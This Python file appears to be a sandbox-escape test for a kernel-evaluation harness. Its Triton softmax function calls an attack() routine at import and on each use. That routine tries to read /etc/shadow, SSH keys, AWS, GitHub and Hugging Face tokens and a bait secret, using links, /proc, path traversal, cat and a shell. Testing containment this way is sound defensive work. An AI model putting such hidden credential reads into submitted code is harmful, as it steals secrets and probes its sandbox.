"""Reads files that hold keys: the usual ones, and one that everybody may read.

Directly, through a link, through /proc, by a relative path, and with programs.
"""

import contextlib
import os
import shutil
import subprocess
import sys

import torch
import triton
import triton.language as tl


def tried(what, attack):
    """Run an attack: what refuses it is printed, and one that succeeds ends the candidate."""
    try:
        loot = attack()
    except Exception as error:
        print(f"met: {what}: {error!r:.200}", file=sys.stderr, flush=True)
    else:
        raise SystemError(f"escaped: {what}: {loot!r:.200}")


PATHS = (
    "@bait_folder@/secret",
    "/etc/shadow",
    "~/.ssh/id_ed25519",
    "~/.netrc",
    "~/.aws/credentials",
    "~/.config/gh/hosts.yml",
    "~/.cache/huggingface/token",
    "kagent.toml",
)


def read(path):
    with open(os.path.expanduser(path)) as file:
        return file.read()


def attack():
    bait = PATHS[0]
    for home in ("/root", os.path.expanduser("~" + os.environ.get("SUDO_USER", "root"))):
        for path in PATHS:
            tried(f"read {path}", lambda p=path.replace("~", home): read(p))
    tried("list the folder", lambda: os.listdir(os.path.dirname(bait)))
    tried("list /home", lambda: os.listdir("/home"))
    tried("copy it", lambda: shutil.copy(bait, "copy"))
    tried("through /proc/self/root", lambda: read("/proc/self/root" + bait))
    tried("by a relative path", lambda: read("../" * 12 + bait))
    tried("a hard link", lambda: (os.link(bait, f"link{os.getpid()}"), read(f"link{os.getpid()}")))
    with contextlib.suppress(FileExistsError):  # the forks of all cases share the folder
        os.symlink(bait, "symlink")
    tried("a symbolic link", lambda: read("symlink"))
    tried("with cat", lambda: subprocess.run(["cat", bait], check=True, capture_output=True))
    tried("with a shell", lambda: subprocess.run(["sh", "-c", f". {bait}"], check=True))


@triton.jit
def softmax(x_ptr, y_ptr, columns, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    offsets = tl.arange(0, BLOCK)
    inside = offsets < columns
    x = tl.load(x_ptr + row * columns + offsets, mask=inside, other=-float("inf")).to(tl.float32)
    e = tl.exp(x - tl.max(x, 0))
    y = e / tl.sum(e, 0)
    tl.store(y_ptr + row * columns + offsets, y.to(y_ptr.dtype.element_ty), mask=inside)


attack()


def rows(x: torch.Tensor) -> torch.Tensor:
    attack()
    count, columns = x.shape
    y = torch.empty_like(x)
    softmax[(count,)](x, y, columns, BLOCK=triton.next_power_of_2(columns), num_warps=8)
    return y
